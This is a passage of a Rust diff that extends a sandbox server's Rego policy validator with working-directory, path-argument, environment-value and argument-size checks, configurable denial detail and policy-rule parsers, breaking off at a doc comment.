@@ -1,15 +1,52 @@
-use std::collections::BTreeMap;
-use std::path::{Path, PathBuf};
+use std::collections::{BTreeMap, BTreeSet};
+use std::path::{Component, Path, PathBuf};
 use std::sync::atomic::{AtomicBool, Ordering};
 use std::sync::{Arc, RwLock};
-use std::time::Duration;
+use std::time::{Duration, SystemTime};
 
 use notify::{RecommendedWatcher, RecursiveMode, Watcher};
 use regorus::Engine as RegoEngine;
+use schemars::JsonSchema;
+use serde::{Deserialize, Serialize};
 use thiserror::Error;
 
-const REGO_ALLOW_QUERY: &str = "data.sandbox.main.allow";
+use crate::grants::{Grant, GrantError, GrantRegistry, GrantRequest};
+use crate::hashing::{FileHasher, FsHasher, HashAlgorithm};
+use crate::self_invocation::OwnBinaries;
+use crate::signing::{PolicySigningKey, verify_bundle};
+use crate::migration::LegacyAllowlist;
+use crate::policy_test::POLICY_TEST_SUFFIX;
+use crate::redaction::{RedactPatterns, redact_env_values};
+use crate::validity::{Clock, SystemClock, Validity, parse_validity};
+
+pub(crate) const REGO_ALLOW_QUERY: &str = "data.sandbox.main.allow";
+const REGO_OUTPUT_LIMITS_QUERY: &str = "data.sandbox.main.output_limits";
+const REGO_CWD_PATTERN_QUERY: &str = "data.sandbox.main.cwd_pattern";
+const REGO_ENV_KEYS_QUERY: &str = "data.sandbox.main.env_keys";
+const REGO_INJECT_ENV_QUERY: &str = "data.sandbox.main.inject_env";
+const REGO_DOMAINS_QUERY: &str = "data.sandbox.main.domains";
+pub(crate) const REGO_VALIDITY_QUERY: &str = "data.sandbox.main.validity";
+const REGO_PATH_ARGS_QUERY: &str = "data.sandbox.main.path_args";
+const REGO_REDACT_QUERY: &str = "data.sandbox.main.redact";
+const REGO_FETCH_DIR_QUERY: &str = "data.sandbox.main.fetch_dir";
+const REGO_CLEANUP_QUERY: &str = "data.sandbox.main.cleanup";
+/// Packages under this prefix are the per-command modules the router dispatches to.
+const REGO_COMMAND_PACKAGE_PREFIX: &str = "data.sandbox.";
+const REGO_ROUTER_PACKAGE: &str = "data.sandbox.main";
+/// Placeholder in `cwd_pattern` entries for the server's workspace directory.
+const WORKSPACE_VARIABLE: &str = "{workspace}";
 const WATCHER_DEBOUNCE_MS: u64 = 250;
+/// Rego builtin `file_hash(algorithm, path)`: the lowercase hex digest of a file, so policies
+/// can pin file arguments by content. Any error fails the evaluation, which denies.
+const FILE_HASH_BUILTIN: &str = "file_hash";
+/// Default [`ArgLimits::max_args`].
+pub const DEFAULT_MAX_ARGS: usize = 4096;
+/// Default [`ArgLimits::max_arg_bytes`]: Linux's `MAX_ARG_STRLEN`, past which `execve` fails
+/// with `E2BIG`.
+pub const DEFAULT_MAX_ARG_BYTES: usize = 128 * 1024;
+/// Default [`ArgLimits::max_command_line_bytes`], well under the usual 2 MiB `ARG_MAX`, which
+/// the command's environment also counts against.
+pub const DEFAULT_MAX_COMMAND_LINE_BYTES: usize = 1024 * 1024;
 
 #[derive(Debug, Error)]
 pub enum ValidationError {
@@ -19,45 +56,1102 @@ pub enum ValidationError {
     PolicyEvaluationFailed { command: String, details: String },
     #[error("Command not allowed: {0}")]
     CommandNotAllowed(String),
+    /// A denial in `both` mode, naming the engine or engines that refused.
+    #[error("Command not allowed by the {engine} policy: {command}")]
+    CommandNotAllowedBy {
+        engine: &'static str,
+        command: String,
+    },
     #[error("Failed to resolve executable path for '{command}': {details}")]
     PathResolutionFailed { command: String, details: String },
     #[error("Failed to compute executable hash for '{command}': {details}")]
     HashResolutionFailed { command: String, details: String },
+    #[error("Working directory not allowed for '{command}': {cwd}")]
+    CwdNotAllowed { command: String, cwd: String },
+    #[error("Env value not allowed for '{command}': {key}")]
+    EnvValueNotAllowed { command: String, key: String },
+    #[error("Path argument not allowed for '{command}': {arg}")]
+    PathArgNotAllowed { command: String, arg: String },
+    #[error(
+        "Output of '{command}' is redacted by the policy, which only run_network_tool and POST /run do"
+    )]
+    RedactionUnsupported { command: String },
+    #[error(
+        "Command '{command}' is mcp-run's own binary ({path}); set MCP_ALLOW_SELF_INVOCATION=1 to allow it"
+    )]
+    SelfInvocation { command: String, path: String },
+    #[error("Too many arguments for '{command}': {count} (limit {limit})")]
+    TooManyArgs {
+        command: String,
+        count: usize,
+        limit: usize,
+    },
+    #[error("Argument {index} for '{command}' is too long: {bytes} bytes (limit {limit})")]
+    ArgTooLong {
+        command: String,
+        index: usize,
+        bytes: usize,
+        limit: usize,
+    },
+    #[error("Command line for '{command}' is too long: {bytes} bytes (limit {limit})")]
+    CommandLineTooLong {
+        command: String,
+        bytes: usize,
+        limit: usize,
+    },
+    #[error("Command not allowed at this time for '{command}': {details}")]
+    OutsideValidity { command: String, details: String },
+    #[error("Download not allowed: {0}")]
+    FetchNotAllowed(String),
+    #[error("Policy evaluation failed for download '{url}': {details}")]
+    FetchEvaluationFailed { url: String, details: String },
+}
+
+impl ValidationError {
+    /// The message a client is given at `detail`. Audit records and logs always carry the
+    /// whole of [`Display`](std::fmt::Display).
+    pub fn client_message(&self, detail: DenialDetail) -> String {
+        match detail {
+            DenialDetail::Full => self.to_string(),
+            DenialDetail::Summary => self.summary(),
+            DenialDetail::Minimal => match self {
+                Self::FetchNotAllowed(_) | Self::FetchEvaluationFailed { .. } => {
+                    "Download not allowed".to_string()
+                }
+                _ => "Command not allowed".to_string(),
+            },
+        }
+    }
+
+    /// Which check refused which command, without the value refused, the engine that refused
+    /// it or what evaluation reported. Argument limits are the server's, not the policy's, and
+    /// are kept whole.
+    fn summary(&self) -> String {
+        match self {
+            Self::PolicyUnavailable { .. } => "Policy deny-all is active".to_string(),
+            Self::PolicyEvaluationFailed { command, .. } => {
+                format!("Policy evaluation failed for '{command}'")
+            }
+            Self::CommandNotAllowed(command) | Self::CommandNotAllowedBy { command, .. } => {
+                format!("Command not allowed: {command}")
+            }
+            Self::PathResolutionFailed { command, .. } => {
+                format!("Failed to resolve executable path for '{command}'")
+            }
+            Self::HashResolutionFailed { command, .. } => {
+                format!("Failed to compute executable hash for '{command}'")
+            }
+            Self::CwdNotAllowed { command, .. } => {
+                format!("Working directory not allowed for '{command}'")
+            }
+            Self::EnvValueNotAllowed { command, .. } => {
+                format!("Env value not allowed for '{command}'")
+            }
+            Self::PathArgNotAllowed { command, .. } => {
+                format!("Path argument not allowed for '{command}'")
+            }
+            Self::RedactionUnsupported { command } => {
+                format!("Output of '{command}' must be captured whole")
+            }
+            Self::SelfInvocation { command, .. } => {
+                format!("Command '{command}' is mcp-run's own binary")
+            }
+            Self::OutsideValidity { command, .. } => {
+                format!("Command not allowed at this time for '{command}'")
+            }
+            Self::FetchNotAllowed(url) => format!("Download not allowed: {url}"),
+            Self::FetchEvaluationFailed { url, .. } => {
+                format!("Policy evaluation failed for download '{url}'")
+            }
+            Self::TooManyArgs { .. } | Self::ArgTooLong { .. } | Self::CommandLineTooLong { .. } => {
+                self.to_string()
+            }
+        }
+    }
+}
+
+/// How much of a denial clients are told (`POLICY_DENIAL_DETAIL`), since the full reason can
+/// show an adversarial agent how the policy is built.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub enum DenialDetail {
+    /// The whole reason, with the refused value and what evaluation reported.
+    #[default]
+    Full,
+    /// Which check refused which command.
+    Summary,
+    /// Only that the command or download was not allowed.
+    Minimal,
+}
+
+impl DenialDetail {
+    pub fn as_str(&self) -> &'static str {
+        match self {
+            DenialDetail::Full => "full",
+            DenialDetail::Summary => "summary",
+            DenialDetail::Minimal => "minimal",
+        }
+    }
+}
+
+/// What an allowing policy attached to the invocation, beyond the allow itself.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct PolicyDecision {
+    pub output_limits: OutputLimitOverrides,
+    /// From the policy's `cwd_pattern` rule, with variables resolved; empty allows any cwd.
+    pub cwd_patterns: Vec<CwdPattern>,
+    /// Env keys the policy's `env_keys` rule marks `sensitive`; their values are redacted from
+    /// logs and the audit record but still passed to the command.
+    pub sensitive_env: BTreeSet<String>,
+    /// Env keys whose value the policy's `env_keys` rule constrains with `exact` or `regex`.
+    pub env_values: BTreeMap<String, EnvValueConstraint>,
+    /// Env vars the policy's `inject_env` rule sets for the command, over the caller's values
+    /// and the server's `PATH` and proxy settings.
+    pub inject_env: BTreeMap<String, String>,
+    /// Domains the policy's `domains` rule opens in the proxy while the command runs, in
+    /// squid `dstdomain` form (a leading `.` also matches subdomains).
+    pub domains: BTreeSet<String>,
+    /// From the policy's `validity` rule; the default allows at any time.
+    pub validity: Validity,
+    /// From the policy's `path_args` rule, with variables resolved.
+    pub path_args: Vec<PathArgRule>,
+    /// Regexes from the policy's `redact` rule; their matches in the command's stdout and
+    /// stderr are replaced before the output is returned.
+    pub redact: RedactPatterns,
+}
+
+impl PolicyDecision {
+    /// `args` as they may be logged, with the values of sensitive env keys redacted.
+    pub fn redact_args(&self, args: &[String], env: &BTreeMap<String, String>) -> Vec<String> {
+        redact_env_values(args, env, |key| self.sensitive_env.contains(key))
+    }
+
+    /// Checks the absolute working directory `cwd` against [`PolicyDecision::cwd_patterns`],
+    /// after resolving `.` and `..` lexically.
+    pub fn check_cwd(&self, command: &str, cwd: &Path) -> Result<(), ValidationError> {
+        if self.cwd_patterns.is_empty() {
+            return Ok(());
+        }
+        let cwd = normalize_lexically(cwd);
+        if self.cwd_patterns.iter().any(|pattern| pattern.matches(&cwd)) {
+            return Ok(());
+        }
+        Err(ValidationError::CwdNotAllowed {
+            command: command.to_string(),
+            cwd: cwd.display().to_string(),
+        })
+    }
+
+    /// Checks `canonical_cwd`, the working directory with symlinks resolved, against
+    /// [`PolicyDecision::cwd_patterns`] with the directories they name resolved the same way,
+    /// so a link inside an allowed directory cannot lead outside it.
+    pub fn check_canonical_cwd(
+        &self,
+        command: &str,
+        canonical_cwd: &Path,
+    ) -> Result<(), ValidationError> {
+        if self.cwd_patterns.is_empty()
+            || self
+                .cwd_patterns
+                .iter()
+                .any(|pattern| pattern.canonicalized().matches(canonical_cwd))
+        {
+            return Ok(());
+        }
+        Err(ValidationError::CwdNotAllowed {
+            command: command.to_string(),
+            cwd: canonical_cwd.display().to_string(),
+        })
+    }
+
+    /// Checks `now` against [`PolicyDecision::validity`].
+    pub fn check_validity(&self, command: &str, now: SystemTime) -> Result<(), ValidationError> {
+        match self.validity.violation(now) {
+            Some(details) => Err(ValidationError::OutsideValidity {
+                command: command.to_string(),
+                details,
+            }),
+            None => Ok(()),
+        }
+    }
+
+    /// Checks the arguments named by [`PolicyDecision::path_args`]. Each is resolved against
+    /// `cwd` and through symlinks, so neither `..` nor a link can lead outside its root. A
+    /// path that does not exist yet is checked by its parent directory.
+    pub fn check_path_args(
+        &self,
+        command: &str,
+        args: &[String],
+        cwd: Option<&Path>,
+    ) -> Result<(), ValidationError> {
+        for rule in &self.path_args {
+            let not_allowed = |arg: String| ValidationError::PathArgNotAllowed {
+                command: command.to_string(),
+                arg,
+            };
+            let Some(arg) = args.get(rule.position) else {
+                if rule.required {
+                    return Err(not_allowed(format!("(missing argument {})", rule.position)));
+                }
+                continue;
+            };
+            let path = Path::new(arg);
+            let path = match cwd {
+                _ if path.is_absolute() => path.to_path_buf(),
+                Some(cwd) => cwd.join(path),
+                None => return Err(not_allowed(arg.clone())),
+            };
+            let within = match (std::fs::canonicalize(&rule.root), resolve_path(&path)) {
+                (Ok(root), Some(resolved)) => resolved.starts_with(root),
+                _ => false,
+            };
+            if !within {
+                return Err(not_allowed(arg.clone()));
+            }
+        }
+        Ok(())
+    }
+
+    /// Checks every requested env value against [`PolicyDecision::env_values`]. Keys without a
+    /// constraint are left to the policy's `allow`.
+    pub fn check_env(
+        &self,
+        command: &str,
+        env: &BTreeMap<String, String>,
+    ) -> Result<(), ValidationError> {
+        for (key, value) in env {
+            if let Some(constraint) = self.env_values.get(key)
+                && !constraint.matches(value)
+            {
+                return Err(ValidationError::EnvValueNotAllowed {
+                    command: command.to_string(),
+                    key: key.clone(),
+                });
+            }
+        }
+        Ok(())
+    }
+}
+
+/// Dangling links followed by [`resolve_path`] before giving up, as the kernel's own limit.
+const MAX_SYMLINK_HOPS: usize = 40;
+
+/// `path` with symlinks resolved, or for a path that does not exist, its resolved parent
+/// joined with its file name. A dangling symlink is resolved to where it points, since
+/// writing through it creates its target.
+fn resolve_path(path: &Path) -> Option<PathBuf> {
+    let mut path = path.to_path_buf();
+    for _ in 0..MAX_SYMLINK_HOPS {
+        match std::fs::canonicalize(&path) {
+            Ok(resolved) => return Some(resolved),
+            Err(error) if error.kind() == std::io::ErrorKind::NotFound => {
+                let parent = std::fs::canonicalize(path.parent()?).ok()?;
+                let name = match path.components().next_back()? {
+                    std::path::Component::Normal(name) => name.to_os_string(),
+                    _ => return None,
+                };
+                let candidate = parent.join(name);
+                match std::fs::symlink_metadata(&candidate) {
+                    Ok(metadata) if metadata.file_type().is_symlink() => {
+                        path = parent.join(std::fs::read_link(&candidate).ok()?);
+                    }
+                    Ok(_) => return None,
+                    Err(_) => return Some(candidate),
+                }
+            }
+            Err(_) => return None,
+        }
+    }
+    None
+}
+
+/// An argument that must name a path under `root`, from the policy's `path_args` rule.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct PathArgRule {
+    /// Absolute and lexically normalized, with `{workspace}` resolved.
+    pub root: PathBuf,
+    /// Index into the arguments.
+    pub position: usize,
+    /// Whether a missing argument denies; otherwise only a present one is checked.
+    pub required: bool,
+}
+
+/// Stale paths the janitor removes, from the policy's `cleanup` rule.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct CleanupRule {
+    /// Absolute globs with `{workspace}` resolved; `*` stops at `/`, `**` crosses it.
+    pub paths: Vec<String>,
+    /// A match is removed once nothing in it has been modified for this long.
+    pub older_than: Duration,
+}
+
+/// The value an env var must have, from the `exact` and `regex` attributes of `env_keys`.
+/// When both are given, both must hold.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct EnvValueConstraint {
+    pub exact: Option<String>,
+    /// A regex that must match the whole value.
+    pub regex: Option<String>,
+}
+
+impl EnvValueConstraint {
+    fn matches(&self, value: &str) -> bool {
+        self.exact.as_deref().is_none_or(|exact| exact == value)
+            && self.regex.as_deref().is_none_or(|pattern| {
+                anchored_regex(pattern).is_ok_and(|regex| regex.is_match(value))
+            })
+    }
+}
+
+/// One allowed working directory form from `cwd_pattern`.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum CwdPattern {
+    /// Only this directory.
+    Exact(PathBuf),
+    /// The directory itself or anything below it, compared by path component.
+    Prefix(PathBuf),
+    /// A regex that must match the whole path.
+    Regex(String),
+}
+
+impl CwdPattern {
+    fn matches(&self, cwd: &Path) -> bool {
+        match self {
+            CwdPattern::Exact(path) => cwd == path,
+            CwdPattern::Prefix(prefix) => cwd.starts_with(prefix),
+            CwdPattern::Regex(pattern) => anchored_regex(pattern)
+                .is_ok_and(|regex| regex.is_match(&cwd.to_string_lossy())),
+        }
+    }
+
+    /// The pattern with its directory's symlinks resolved, so a workspace reached through a
+    /// link still matches its own canonical paths. A regex is kept as written.
+    fn canonicalized(&self) -> CwdPattern {
+        let resolve = |path: &PathBuf| std::fs::canonicalize(path).unwrap_or_else(|_| path.clone());
+        match self {
+            CwdPattern::Exact(path) => CwdPattern::Exact(resolve(path)),
+            CwdPattern::Prefix(prefix) => CwdPattern::Prefix(resolve(prefix)),
+            CwdPattern::Regex(_) => self.clone(),
+        }
+    }
+}
+
+fn anchored_regex(pattern: &str) -> Result<regex::Regex, regex::Error> {
+    regex::Regex::new(&format!("^(?:{pattern})$"))
+}
+
+/// Resolves `.` and `..` without touching the filesystem, so `{workspace}/../etc` cannot
+/// pass a `{workspace}` prefix.
+pub(crate) fn normalize_lexically(path: &Path) -> PathBuf {
+    use std::path::Component;
+
+    let mut normalized = PathBuf::new();
+    for component in path.components() {
+        match component {
+            Component::CurDir => {}
+            Component::ParentDir => match normalized.components().next_back() {
+                Some(Component::Normal(_)) => {
+                    normalized.pop();
+                }
+                // `..` at the root stays at the root.
+                Some(Component::RootDir | Component::Prefix(_)) => {}
+                _ => normalized.push(".."),
+            },
+            other => normalized.push(other),
+        }
+    }
+    if normalized.as_os_str().is_empty() {
+        normalized.push(".");
+    }
+    normalized
+}
+
+/// Who is asking, exposed to policies as `input.context`, and where the command would run.
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
+pub struct InvocationContext {
+    /// Value of the caller's `X-Client-Id` header, if it sent one.
+    pub client_id: Option<String>,
+    /// Absolute, lexically normalized working directory, exposed as `input.cwd`. Left unset
+    /// when the caller has no cwd to report, in which case `input.cwd` is undefined.
+    #[serde(skip)]
+    pub cwd: Option<PathBuf>,
+    /// `cwd` with symlinks resolved, exposed as `input.canonical_cwd`. Set only when the
+    /// directory exists; the command is then started there.
+    #[serde(skip)]
+    pub canonical_cwd: Option<PathBuf>,
+    /// mcp-run servers the request passed through before this one (`X-Mcp-Run-Hops`).
+    #[serde(skip)]
+    pub hops: u32,
+}
+
+/// Per-stream byte caps from the policy's `output_limits` rule; `None` keeps the server default.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+pub struct OutputLimitOverrides {
+    pub stdout: Option<usize>,
+    pub stderr: Option<usize>,
+}
+
+/// Size limits checked before any policy sees an invocation, so an oversized argument list is
+/// denied before it reaches a Rego regex or `execve`. `None` disables a limit.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct ArgLimits {
+    pub max_args: Option<usize>,
+    /// Bytes of any one argument.
+    pub max_arg_bytes: Option<usize>,
+    /// Bytes of the executable and all arguments, each counted with its NUL terminator as
+    /// `execve` does.
+    pub max_command_line_bytes: Option<usize>,
+}
+
+impl Default for ArgLimits {
+    fn default() -> Self {
+        Self {
+            max_args: Some(DEFAULT_MAX_ARGS),
+            max_arg_bytes: Some(DEFAULT_MAX_ARG_BYTES),
+            max_command_line_bytes: Some(DEFAULT_MAX_COMMAND_LINE_BYTES),
+        }
+    }
+}
+
+impl ArgLimits {
+    pub fn check(&self, command: &str, args: &[String]) -> Result<(), ValidationError> {
+        if let Some(limit) = self.max_args
+            && args.len() > limit
+        {
+            return Err(ValidationError::TooManyArgs {
+                command: command.to_string(),
+                count: args.len(),
+                limit,
+            });
+        }
+        if let Some(limit) = self.max_arg_bytes
+            && let Some((index, arg)) = args.iter().enumerate().find(|(_, arg)| arg.len() > limit)
+        {
+            return Err(ValidationError::ArgTooLong {
+                command: command.to_string(),
+                index,
+                bytes: arg.len(),
+                limit,
+            });
+        }
+        let bytes = command.len() + 1 + args.iter().map(|arg| arg.len() + 1).sum::<usize>();
+        if let Some(limit) = self.max_command_line_bytes
+            && bytes > limit
+        {
+            return Err(ValidationError::CommandLineTooLong {
+                command: command.to_string(),
+                bytes,
+                limit,
+            });
+        }
+        Ok(())
+    }
 }
 
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub enum PolicyMode {
     Rego,
+    /// Rego and the legacy JSON allowlist (`POLICY_FILE`) must both allow an invocation.
+    Both,
     DenyAll,
 }
 
+impl PolicyMode {
+    pub fn as_str(&self) -> &'static str {
+        match self {
+            PolicyMode::Rego => "rego",
+            PolicyMode::Both => "both",
+            PolicyMode::DenyAll => "deny-all",
+        }
+    }
+}
+
+/// What the active policy allows, as listed by the `list_allowed_commands` tool.
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq, JsonSchema)]
+#[serde(rename_all = "camelCase")]
+pub struct PolicySummary {
+    pub policy_mode: String,
+    /// One entry per Rego package, sorted by name; empty in deny-all mode.
+    pub packages: Vec<PolicyPackageSummary>,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq, JsonSchema)]
+#[serde(rename_all = "camelCase")]
+pub struct PolicyPackageSummary {
+    /// Package path, e.g. `sandbox.curl`.
+    pub package: String,
+    /// Executable name routed to this package (`sandbox.<command>`); `None` for the router
+    /// and helper packages.
+    pub command: Option<String>,
+    /// The package's `description` string rule, if it has one that holds without input.
+    pub description: Option<String>,
+}
+
 #[derive(Debug, Clone)]
 struct RegoPolicy {
     engine: RegoEngine,
     module_count: usize,
+    data_count: usize,
 }
 
 impl RegoPolicy {
-    fn evaluate(&self, input: &PolicyEvaluationInput) -> Result<bool, String> {
+    /// Returns `None` when the invocation is not allowed.
+    fn evaluate(&self, input: &PolicyEvaluationInput) -> Result<Option<PolicyDecision>, String> {
         let mut engine = self.engine.clone();
-        let input_value = serde_json::json!({
+        let mut input_value = serde_json::json!({
             "command": input.command,
             "path": input.path,
             "hash": input.hash,
             "args": input.args,
             "env": input.env,
+            "context": input.context,
         });
+        if let Some(cwd) = &input.context.cwd {
+            input_value["cwd"] = serde_json::Value::from(cwd.to_string_lossy());
+        }
+        if let Some(canonical_cwd) = &input.context.canonical_cwd {
+            input_value["canonical_cwd"] = serde_json::Value::from(canonical_cwd.to_string_lossy());
+        }
         engine.set_input(regorus::Value::from(input_value));
-        engine
+        let allowed = engine
             .eval_bool_query(REGO_ALLOW_QUERY.to_string(), false)
-            .map_err(|error| error.to_string())
+            .map_err(|error| error.to_string())?;
+        if !allowed {
+            return Ok(None);
+        }
+
+        let output_limits = match query_optional_value(&mut engine, REGO_OUTPUT_LIMITS_QUERY)? {
+            Some(value) => parse_output_limits(&value)?,
+            None => OutputLimitOverrides::default(),
+        };
+        let cwd_patterns = match query_optional_value(&mut engine, REGO_CWD_PATTERN_QUERY)? {
+            Some(value) => parse_cwd_patterns(&value, input.workspace)?,
+            None => Vec::new(),
+        };
+        let (sensitive_env, env_values) =
+            match query_optional_value(&mut engine, REGO_ENV_KEYS_QUERY)? {
+                Some(value) => parse_env_keys(&value)?,
+                None => (BTreeSet::new(), BTreeMap::new()),
+            };
+        let inject_env = match query_optional_value(&mut engine, REGO_INJECT_ENV_QUERY)? {
+            Some(value) => parse_inject_env(&value)?,
+            None => BTreeMap::new(),
+        };
+        let domains = match query_optional_value(&mut engine, REGO_DOMAINS_QUERY)? {
+            Some(value) => parse_domains(&value)?,
+            None => BTreeSet::new(),
+        };
+        let validity = match query_optional_value(&mut engine, REGO_VALIDITY_QUERY)? {
+            Some(value) => parse_validity(&value)?,
+            None => Validity::default(),
+        };
+        let path_args = match query_optional_value(&mut engine, REGO_PATH_ARGS_QUERY)? {
+            Some(value) => parse_path_args(&value, input.workspace)?,
+            None => Vec::new(),
+        };
+        let redact = match query_optional_value(&mut engine, REGO_REDACT_QUERY)? {
+            Some(value) => parse_redact(&value)?,
+            None => RedactPatterns::default(),
+        };
+        Ok(Some(PolicyDecision {
+            output_limits,
+            cwd_patterns,
+            sensitive_env,
+            env_values,
+            inject_env,
+            domains,
+            validity,
+            path_args,
+            redact,
+        }))
+    }
+
+    /// The directory `fetch_dir` approves for `input`, or `None` when it is undefined.
+    fn fetch_dir(
+        &self,
+        input: serde_json::Value,
+        workspace: Option<&Path>,
+    ) -> Result<Option<PathBuf>, String> {
+        let mut engine = self.engine.clone();
+        engine.set_input(regorus::Value::from(input));
+        let Some(value) = query_optional_value(&mut engine, REGO_FETCH_DIR_QUERY)? else {
+            return Ok(None);
+        };
+        let template = value
+            .as_str()
+            .ok_or_else(|| format!("{REGO_FETCH_DIR_QUERY} must be a string"))?;
+        let path = match workspace {
+            Some(workspace) => {
+                PathBuf::from(template.replace(WORKSPACE_VARIABLE, &workspace.to_string_lossy()))
+            }
+            None if template.contains(WORKSPACE_VARIABLE) => {
+                return Err(format!(
+                    "{REGO_FETCH_DIR_QUERY} uses {WORKSPACE_VARIABLE} but no workspace is configured"
+                ));
+            }
+            None => PathBuf::from(template),
+        };
+        if !path.is_absolute() {
+            return Err(format!(
+                "{REGO_FETCH_DIR_QUERY} '{}' is not absolute",
+                path.display()
+            ));
+        }
+        Ok(Some(normalize_lexically(&path)))
+    }
+
+    /// The `cleanup` rule, evaluated without input; empty when it is undefined.
+    fn cleanup_rules(&self, workspace: Option<&Path>) -> Result<Vec<CleanupRule>, String> {
+        let mut engine = self.engine.clone();
+        engine.set_input(regorus::Value::from(serde_json::json!({})));
+        match query_optional_value(&mut engine, REGO_CLEANUP_QUERY)? {
+            Some(value) => parse_cleanup_rules(&value, workspace),
+            None => Ok(Vec::new()),
+        }
+    }
+
+    fn packages(&self) -> Result<Vec<PolicyPackageSummary>, String> {
+        let mut engine = self.engine.clone();
+        let packages: BTreeSet<String> = engine
+            .get_packages()
+            .map_err(|error| error.to_string())?
+            .into_iter()
+            .collect();
+        let mut summaries = Vec::with_capacity(packages.len());
+        for package in packages {
+            let command = package
+                .strip_prefix(REGO_COMMAND_PACKAGE_PREFIX)
+                .filter(|name| package != REGO_ROUTER_PACKAGE && !name.contains('.'))
+                .map(str::to_string);
+            // A description that fails to evaluate is left out rather than hiding the package.
+            let description = query_optional_value(&mut engine, &format!("{package}.description"))
+                .ok()
+                .flatten()
+                .and_then(|value| value.as_str().map(str::to_string));
+            summaries.push(PolicyPackageSummary {
+                package: package.strip_prefix("data.").unwrap_or(&package).to_string(),
+                command,
+                description,
+            });
+        }
+        Ok(summaries)
+    }
+}
+
+/// Evaluates `query`, treating an undefined rule as `None`.
+fn query_optional_value(
+    engine: &mut RegoEngine,
+    query: &str,
+) -> Result<Option<serde_json::Value>, String> {
+    let results = engine
+        .eval_query(query.to_string(), false)
+        .map_err(|error| error.to_string())?;
+    let Some(value) = results
+        .result
+        .first()
+        .and_then(|result| result.expressions.first())
+        .map(|expression| &expression.value)
+        .filter(|value| **value != regorus::Value::Undefined)
+    else {
+        return Ok(None);
+    };
+    serde_json::to_value(value)
+        .map(Some)
+        .map_err(|error| format!("{query} is not JSON-compatible: {error}"))
+}
+
+fn parse_output_limits(value: &serde_json::Value) -> Result<OutputLimitOverrides, String> {
+    let object = value
+        .as_object()
+        .ok_or_else(|| format!("{REGO_OUTPUT_LIMITS_QUERY} must be an object"))?;
+    let mut limits = OutputLimitOverrides::default();
+    for (key, value) in object {
+        let bytes = value
+            .as_u64()
+            .and_then(|bytes| usize::try_from(bytes).ok())
+            .ok_or_else(|| {
+                format!("{REGO_OUTPUT_LIMITS_QUERY}.{key} must be a non-negative integer")
+            })?;
+        match key.as_str() {
+            "stdout" => limits.stdout = Some(bytes),
+            "stderr" => limits.stderr = Some(bytes),
+            _ => {
+                return Err(format!(
+                    "{REGO_OUTPUT_LIMITS_QUERY} has unknown key '{key}' (expected stdout or stderr)"
+                ));
+            }
+        }
+    }
+    Ok(limits)
+}
+
+/// Accepts `{"KEY": {"sensitive": bool, "exact": string, "regex": string}}`, every attribute
+/// optional, and returns the keys marked sensitive and the value constraints.
+fn parse_env_keys(
+    value: &serde_json::Value,
+) -> Result<(BTreeSet<String>, BTreeMap<String, EnvValueConstraint>), String> {
+    let object = value
+        .as_object()
+        .ok_or_else(|| format!("{REGO_ENV_KEYS_QUERY} must be an object"))?;
+    let mut sensitive = BTreeSet::new();
+    let mut constraints = BTreeMap::new();
+    for (key, attributes) in object {
+        let attributes = attributes
+            .as_object()
+            .ok_or_else(|| format!("{REGO_ENV_KEYS_QUERY}.{key} must be an object"))?;
+        let mut constraint = EnvValueConstraint::default();
+        for (attribute, value) in attributes {
+            match (attribute.as_str(), value) {
+                ("sensitive", serde_json::Value::Bool(true)) => {
+                    sensitive.insert(key.clone());
+                }
+                ("sensitive", serde_json::Value::Bool(false)) => {}
+                ("sensitive", _) => {
+                    return Err(format!(
+                        "{REGO_ENV_KEYS_QUERY}.{key}.sensitive must be a boolean"
+                    ));
+                }
+                ("exact", serde_json::Value::String(exact)) => {
+                    constraint.exact = Some(exact.clone());
+                }
+                ("regex", serde_json::Value::String(pattern)) => {
+                    anchored_regex(pattern).map_err(|error| {
+                        format!("{REGO_ENV_KEYS_QUERY}.{key}.regex is invalid: {error}")
+                    })?;
+                    constraint.regex = Some(pattern.clone());
+                }
+                ("exact" | "regex", _) => {
+                    return Err(format!(
+                        "{REGO_ENV_KEYS_QUERY}.{key}.{attribute} must be a string"
+                    ));
+                }
+                _ => {
+                    return Err(format!(
+                        "{REGO_ENV_KEYS_QUERY}.{key} has unknown key '{attribute}' (expected sensitive, exact or regex)"
+                    ));
+                }
+            }
+        }
+        if constraint != EnvValueConstraint::default() {
+            constraints.insert(key.clone(), constraint);
+        }
+    }
+    Ok((sensitive, constraints))
+}
+
+/// Accepts `{"KEY": "value"}`. Keys and values must be usable as a process environment.
+fn parse_inject_env(value: &serde_json::Value) -> Result<BTreeMap<String, String>, String> {
+    let object = value
+        .as_object()
+        .ok_or_else(|| format!("{REGO_INJECT_ENV_QUERY} must be an object"))?;
+    let mut env = BTreeMap::new();
+    for (key, value) in object {
+        if key.is_empty() || key.contains(['=', '\0']) {
+            return Err(format!(
+                "{REGO_INJECT_ENV_QUERY} has invalid key '{key}' (must be non-empty without '=' or NUL)"
+            ));
+        }
+        let value = value
+            .as_str()
+            .filter(|value| !value.contains('\0'))
+            .ok_or_else(|| {
+                format!("{REGO_INJECT_ENV_QUERY}.{key} must be a string without NUL")
+            })?;
+        env.insert(key.clone(), value.to_string());
+    }
+    Ok(env)
+}
+
+/// Accepts a regex or a list of them. They are not anchored: every match in the output is
+/// replaced.
+fn parse_redact(value: &serde_json::Value) -> Result<RedactPatterns, String> {
+    let entries = match value {
+        serde_json::Value::Array(entries) => entries.as_slice(),
+        single => std::slice::from_ref(single),
+    };
+    let patterns = entries
+        .iter()
+        .map(|entry| {
+            entry
+                .as_str()
+                .ok_or_else(|| format!("{REGO_REDACT_QUERY} entries must be strings"))
+        })
+        .collect::<Result<Vec<_>, _>>()?;
+    RedactPatterns::new(&patterns)
+        .map_err(|error| format!("{REGO_REDACT_QUERY} has an invalid regex: {error}"))
+}
+
+/// Accepts a list of domain names, each optionally prefixed with `.` to cover subdomains.
